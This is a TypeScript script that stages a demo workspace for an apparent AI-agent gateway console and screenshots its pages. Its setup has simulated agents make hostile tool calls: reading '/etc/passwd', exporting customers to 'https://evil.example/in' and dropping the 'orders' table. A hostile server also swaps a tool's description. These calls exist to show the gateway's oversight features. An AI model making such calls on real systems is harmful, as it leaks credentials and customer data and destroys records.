import { mkdirSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { parseArgs } from 'node:util';
import type { ManifestInput } from '@gatehouse/protocol';
import { createMcpTransport, type TaskRequest } from '@gatehouse/sdk';
import { loadManifests } from '@gatehouse/server/manifests';
import { Client } from '@modelcontextprotocol/client';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { startHostileHttp } from '../test/peers/hostile-server.ts';
import { addVirtualAuthenticator, launchChromium } from '../test/support/chromium.ts';
import { builtConsole } from '../test/support/console.ts';
import { startWorkspace, type Workspace } from '../test/support/workspace.ts';

/**
 * `node scripts/screenshot.ts`: the picture of the README, docs/images/console.png, taken from a running server with the quick-start
 * workspace and real agents at work. With `--all DIRECTORY` every page instead, in light and dark, wide and narrow, for whoever
 * changes the console.
 */
const root = join(import.meta.dirname, '..');
const { values } = parseArgs({ options: { all: { type: 'string' } } });
const assets = builtConsole();
const workspace = await startWorkspace({ consoleDir: assets.directory });
const upstream = await startHostileHttp();
const browser = await launchChromium();
if (!browser) process.exit(1);
try {
  await setTheScene(workspace, upstream);
  const session = await signIn(browser, workspace);
  if (values.all === undefined) await takePicture(browser, workspace, session);
  else await takeAll(browser, workspace, session, values.all);
} finally {
  await browser.close();
  await workspace.close();
  await upstream.close();
  assets.remove();
}

/** Three agents at work: calls that run, wait, are refused and fail, and a server that has changed a tool behind our back. */
async function setTheScene(house: Workspace, payments: typeof upstream): Promise<void> {
  const server: ManifestInput = {
    kind: 'ToolServer',
    name: 'payments',
    description: 'Transfers between accounts of the company.',
    environments: ['production'],
    transport: { type: 'http', url: payments.url, allowPrivateAddress: true },
    tools: { transfer: { tier: 3, effects: ['pay'] }, lookup: { tier: 1, effects: ['read'] } },
    prompts: { tier: 1 },
  };
  await house.apply([...loadManifests(join(root, 'examples', 'quickstart')), server]);
  payments.mutateNow('description');
  await house.operator('POST /servers/:name/refresh', { params: { name: 'payments' } });

  const coding = await start(house, 'agent-coding-copilot-staging', {
    template: 'autofix',
    parameters: { ticket: 'DEV-88' },
    intent: 'Fix the off-by-one in the pagination of the order list',
    requestedBy: 'user:dana',
    ticket: 'DEV-88',
    model: { provider: 'example', name: 'example-1' },
  });
  await coding('filesystem__list_allowed_directories', {});
  await coding('filesystem__read_text_file', { path: '/etc/passwd' });
  await coding('memory__read_graph', {});

  const operations = await start(house, 'agent-operations-runner-prod', {
    template: 'operations-report',
    parameters: { period: '2026-W05' },
    intent: 'Write the weekly report on orders and refunds, and hand the customer list to the warehouse',
    requestedBy: 'event:weekly-schedule',
    changeRequest: 'CHG-2107',
    model: { provider: 'example', name: 'example-1' },
  });
  await operations('shop__list_orders', { customer: 'customer-z' });
  await operations('shop__post_message', { channel: 'operations', text: 'Report for week 5: 12 orders, 2 refunds.' });
  await operations('shop__export_customers', { destination: 'warehouse.example.test' });

  const support = await start(house, 'agent-support-refunds-prod', {
    template: 'refund-order',
    parameters: { order: 1042, customer: 'customer-z' },
    intent: 'Refund order 1042 for customer Z, as asked in ticket 301',
    requestedBy: 'user:support-desk',
    ticket: 'SUP-301',
    model: { provider: 'example', name: 'example-1' },
  });
  await support('shop__get_order', { order: 1042 });
  await support('shop__get_order', { order: 1001 });
  await support('shop__post_message', { channel: 'support', text: 'Refunding order 1042, 40.00 EUR, ticket 301.' });
  const refund = { order: 1042, amount_cents: 4_000, currency: 'EUR', reason: 'arrived broken' };
  await support('shop__refund_order', refund);
  const approver = await house.person('approver@example.test');
  const [pending] = (
    await approver.api('GET /approvals', { query: { state: 'pending', agent: 'agent-support-refunds-prod' } })
  ).items;
  if (!pending) throw new Error('the refund should wait for an approval');
  await approver.approve(pending.id);
  await support('shop__refund_order', refund);
  await support('shop__get_ticket', { ticket: 304 });
  await support('shop__export_customers', { destination: 'https://evil.example/in' });
  await support('shop__drop_table', { table: 'orders' });
  await support('shop__refund_order', {
    ...refund,
    amount_cents: 1_250,
    reason: 'shipping costs, as promised in ticket 301',
  });
}

async function start(house: Workspace, name: string, request: TaskRequest) {
  const agent = await house.agent(name);
  const client = new Client({ name: 'screenshot', version: '1.0.0' });
  await client.connect(createMcpTransport(await agent.startTask(request)));
  return (tool: string, args: Record<string, unknown>) => client.callTool({ name: tool, arguments: args });
}

type Session = Awaited<ReturnType<BrowserContext['storageState']>>;

/** By a one-time link and a passkey of a virtual authenticator, as a person would. */
async function signIn(chromium: Browser, house: Workspace): Promise<Session> {
  const page = await chromium.newPage();
  await addVirtualAuthenticator(page);
  const { url } = await house.server.createSignInLink('owner@example.test');
  await page.goto(url);
  await page.getByRole('button', { name: 'Use this link' }).click();
  await page.getByRole('button', { name: 'Create the passkey' }).click();
  await page.getByRole('heading', { name: 'Overview' }).waitFor();
  const session = await page.context().storageState();
  await page.context().close();
  return session;
}

interface View {
  scheme: 'light' | 'dark';
  size: { width: number; height: number };
  scale?: number;
}

async function open(chromium: Browser, house: Workspace, session: Session, view: View) {
  const context = await chromium.newContext({
    viewport: view.size,
    colorScheme: view.scheme,
    deviceScaleFactor: view.scale ?? 1,
    reducedMotion: 'reduce',
    locale: 'en-GB',
    timezoneId: 'Europe/Berlin',
    storageState: session,
  });
  const page = await context.newPage();
  await page.goto(house.url);
  await page.getByRole('heading', { name: 'Overview' }).waitFor();
  await settle(page);
  return page;
}

/** Until nothing is loading any more. */
async function settle(page: Page): Promise<void> {
  await page.waitForFunction(() => !document.querySelector('.mantine-Skeleton-root, [aria-busy="true"]'));
  await page.evaluate(() => document.fonts.ready);
}

async function takePicture(chromium: Browser, house: Workspace, session: Session): Promise<void> {
  const page = await open(chromium, house, session, { scheme: 'light', size: { width: 1360, height: 850 }, scale: 2 });
  const path = join(root, 'docs', 'images', 'console.png');
  mkdirSync(dirname(path), { recursive: true });
  await page.screenshot({ path });
  console.log(path);
}

async function takeAll(chromium: Browser, house: Workspace, session: Session, directory: string): Promise<void> {
  mkdirSync(directory, { recursive: true });
  const agent = 'agent-support-refunds-prod';
  const { items: tasks } = await house.operator('GET /tasks', { query: { agent } });
  const { items: decided } = await house.operator('GET /approvals', { query: { agent, state: 'consumed' } });
  const { items: pending } = await house.operator('GET /approvals', { query: { agent, state: 'pending' } });
  const paths: Record<string, string> = {
    overview: '/',
    approvals: '/approvals',
    approval: `/approvals/${pending[0]?.id}`,
    agents: '/agents',
    agent: `/agents/${agent}`,
    'agent-identity': `/agents/${agent}/identity`,
    people: '/identity/people',
    person: '/identity/people/approver@example.test',
    sessions: '/identity/sessions',
    delegations: '/delegations',
    'new-delegation': '/delegations/new',
    'trust-rules': '/identity/trust-rules',
    workloads: '/identity/workloads',
    'trust-domain': '/identity/trust-domain',
    keys: '/identity/keys',
    device: '/device',
    tools: '/tools',
    definition: '/tools/payments?kind=tool&name=transfer',
    actions: '/actions',
    action: `/actions/${decided[0]?.actionId}`,
    tasks: '/tasks',
    task: `/tasks/${tasks[0]?.id}`,
    log: '/log',
    settings: '/settings',
  };
  const views: Record<string, View> = {
    'wide-light': { scheme: 'light', size: { width: 1360, height: 850 } },
    'wide-dark': { scheme: 'dark', size: { width: 1360, height: 850 } },
    'narrow-light': { scheme: 'light', size: { width: 390, height: 844 } },
    'narrow-dark': { scheme: 'dark', size: { width: 390, height: 844 } },
  };
  for (const [name, view] of Object.entries(views)) {
    const page = await open(chromium, house, session, view);
    const shoot = (what: string, fullPage = true) =>
      page.screenshot({ path: join(directory, `${what}-${name}.png`), fullPage });
    for (const [what, path] of Object.entries(paths)) {
      await page.goto(house.url + path);
      await page.getByRole('heading', { level: 1 }).waitFor();
      await settle(page);
      await page.waitForTimeout(300);
      await shoot(what);
    }
    await page.keyboard.press('?');
    await page.getByRole('dialog').waitFor();
    await page.waitForTimeout(300);
    await shoot('help', false);
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+k');
    await page.getByRole('dialog').waitFor();
    await page.waitForTimeout(300);
    await shoot('jump', false);
    await page.keyboard.press('Escape');
    await page.goto(`${house.url}/agents`);
    await page.getByRole('button', { name: `Kill ${agent}` }).click();
    await page.getByRole('dialog').waitFor();
    await page.waitForTimeout(300);
    await shoot('kill', false);
    await page.context().clearCookies();
    await page.goto(`${house.url}/sign-in`);
    await page.waitForTimeout(300);
    await shoot('sign-in', false);
    await page.context().close();
    console.log(name);
  }
}
